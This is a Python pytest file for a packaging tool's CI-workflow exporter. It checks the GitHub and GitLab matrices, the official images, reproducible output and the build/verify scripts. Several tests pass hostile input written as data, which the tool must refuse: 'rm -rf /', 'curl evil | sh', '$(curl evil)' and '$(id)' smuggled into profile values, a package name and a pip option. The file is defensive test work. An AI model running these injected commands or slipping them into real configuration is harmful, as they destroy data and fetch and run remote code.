"""`pkgtool export ci`: the workflow parses, its matrix is the profiles, and its scripts build and verify.

The jobs' own shell lines are run here on this machine (the venv's pkgtool standing in for the
one the job installs), so a script that names a wrong path or option fails here, not in CI.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import EXAMPLES, REPO
from tooling import require_tools

from pkgtool.export.ci import VENV
from pkgtool.profiles import expand_distros, load_profile

PROFILES = expand_distros("all", EXAMPLES / "convirt")
MAP = "examples/convirt"


def run(*args: str, cwd: Path = REPO) -> subprocess.CompletedProcess:
    proc = subprocess.run([sys.executable, "-m", "pkgtool", *args], cwd=cwd, capture_output=True, text=True, timeout=60)
    assert "Traceback" not in proc.stdout + proc.stderr, proc.stderr
    return proc


@pytest.fixture(scope="module")
def workflows(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("ci")
    for provider in ("github", "gitlab"):
        proc = run("export", "ci", "--provider", provider, MAP, "--out", str(out))
        assert proc.returncode == 0, proc.stderr
    return out


def test_github_matrix_is_the_profiles_each_in_its_image(workflows: Path) -> None:
    doc = yaml.safe_load((workflows / ".github/workflows/pkgtool.yml").read_text())
    job = doc["jobs"]["build"]
    include = job["strategy"]["matrix"]["include"]
    assert [row["distro"] for row in include] == PROFILES == ["debian", "el9", "fedora", "opensuse-leap", "ubuntu"]
    for row in include:
        profile = load_profile(row["distro"])
        assert row["image"] == profile.ci_image and row["python"] == profile.ci_python
        assert row["tools"] == " && ".join(profile.ci_install)
    assert job["container"]["image"] == "${{ matrix.image }}"
    assert job["env"]["PKGTOOL_MAP"] == MAP and job["env"]["DISTRO"] == "${{ matrix.distro }}"
    assert set(doc["on"]) == {"push", "pull_request", "workflow_dispatch"}
    runs = [s["run"] for s in job["steps"] if "run" in s]
    assert any("--backend system" in r for r in runs) and any("pkgtool verify" in r for r in runs)
    upload = job["steps"][-1]
    assert upload["uses"].startswith("actions/upload-artifact@") and "matrix.distro" in upload["with"]["path"]


def test_gitlab_matrix_is_the_profiles_each_in_its_image(workflows: Path) -> None:
    doc = yaml.safe_load((workflows / ".gitlab-ci.yml").read_text())
    job = doc["build"]
    rows = job["parallel"]["matrix"]
    assert [row["DISTRO"] for row in rows] == PROFILES
    assert job["image"] == "$IMAGE"
    for row in rows:
        assert row["IMAGE"] == load_profile(row["DISTRO"]).ci_image
    assert job["variables"]["PKGTOOL_MAP"] == MAP and job["artifacts"]["paths"] == ["dist/"]


def test_the_shipped_images_are_the_official_ones() -> None:
    images = {p: load_profile(p).ci_image for p in PROFILES}
    assert images == {
        "debian": "debian:12",
        "el9": "quay.io/centos/centos:stream9",
        "fedora": "fedora:40",
        "opensuse-leap": "opensuse/leap:15.6",
        "ubuntu": "ubuntu:24.04",
    }


def test_the_export_is_byte_identical_again(workflows: Path, tmp_path: Path) -> None:
    for provider, rel in (("github", ".github/workflows/pkgtool.yml"), ("gitlab", ".gitlab-ci.yml")):
        assert run("export", "ci", "--provider", provider, MAP, "--out", str(tmp_path)).returncode == 0
        assert (tmp_path / rel).read_bytes() == (workflows / rel).read_bytes()


@pytest.mark.parametrize("distro", ["debian", "fedora"])
def test_the_job_scripts_build_and_verify(workflows: Path, tmp_path: Path, distro: str) -> None:
    """The build and verify steps, as written in the workflow, with this checkout's pkgtool."""
    require_tools(*(("rpmbuild", "zstd") if distro == "fedora" else ("dpkg-buildpackage", "dh", "fakeroot")))
    job = yaml.safe_load((workflows / ".github/workflows/pkgtool.yml").read_text())["jobs"]["build"]
    steps = {s.get("name"): s for s in job["steps"]}
    venv_bin = str(Path(sys.executable).parent)
    script = "\n".join(steps[n]["run"] for n in ("build", "verify")).replace(f"{VENV}/bin", venv_bin)
    work = tmp_path / "checkout"
    (work / "examples").mkdir(parents=True)
    (work / "examples/convirt").symlink_to(EXAMPLES / "convirt")
    env = {**os.environ, "DISTRO": distro, "PKGTOOL_MAP": MAP, "SOURCE_DATE_EPOCH": "1700000000"}
    proc = subprocess.run(["sh", "-ec", script], cwd=work, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.count("paths checked, ok") == 1, proc.stdout  # one binary package, verified
    assert any(p.suffix in (".rpm", ".deb") for p in (work / "dist" / distro).iterdir())


def _project(tmp_path: Path, profile_toml: str) -> Path:
    project = tmp_path / "proj"
    (project / "distros").mkdir(parents=True)
    (project / "pkgtool.toml").write_text((EXAMPLES / "convirt/pkgtool.toml").read_text())  # loaded, never built
    (project / "distros/mine.toml").write_text(profile_toml)
    return project


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ('ci_image = "debian:12; rm -rf /"', "ci_image"),
        ('ci_image = "${{ secrets.TOKEN }}"', "ci_image"),
        ('ci_python = "python3 -c x"', "ci_python"),
        ('ci_install = ["apt-get install $(curl evil)"]', "ci_install"),
        ('ci_install = ["apt-get update\\nrm -rf /"]', "ci_install"),
    ],
)
def test_a_hostile_profile_value_is_refused_where_it_is_written(tmp_path: Path, line: str, key: str) -> None:
    _project(tmp_path, f'inherits = "debian"\n{line}\n')
    proc = run("export", "ci", "--provider", "github", "proj", "--distro", "mine", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2, proc.stderr
    assert f"proj/distros/mine.toml:2: {key}:" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_a_profile_without_ci_keys_is_named(tmp_path: Path) -> None:
    _project(tmp_path, 'inherits = "debian"\nci_image = ""\n')
    proc = run("export", "ci", "--provider", "gitlab", "proj", "--distro", "mine", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2 and "profile mine has no ci_image" in proc.stderr and "mine.toml" in proc.stderr


def test_a_map_name_with_shell_metacharacters_never_reaches_the_yaml(tmp_path: Path) -> None:
    project = _project(tmp_path, 'inherits = "debian"\n')
    toml = project / "pkgtool.toml"
    toml.write_text(toml.read_text().replace('name = "convirt"', 'name = "x\\"; curl evil | sh; #"', 1))
    proc = run("export", "ci", "--provider", "github", "proj", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2 and "package.name" in proc.stderr and "pkgtool.toml" in proc.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--provider", "jenkins", MAP], "github or gitlab"),
        (["--provider", "github", str(EXAMPLES / "convirt")], "relative to the repository root"),
        (["--provider", "github", "../x"], "relative to the repository root"),
        (["--provider", "github", MAP, "--pip", "pkgtool$(id)"], "--pip"),
    ],
)
def test_bad_options_are_refused(tmp_path: Path, args: list[str], message: str) -> None:
    proc = run("export", "ci", *args, "--out", str(tmp_path / "out"))
    assert proc.returncode == 2 and message in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


def test_a_symlinked_github_dir_is_not_followed_out_of_out(tmp_path: Path) -> None:
    out, elsewhere = tmp_path / "repo", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / ".github").symlink_to(elsewhere)
    proc = run("export", "ci", "--provider", "github", MAP, "--out", str(out))
    assert proc.returncode == 2 and "is a symlink" in proc.stderr
    assert list(elsewhere.iterdir()) == []
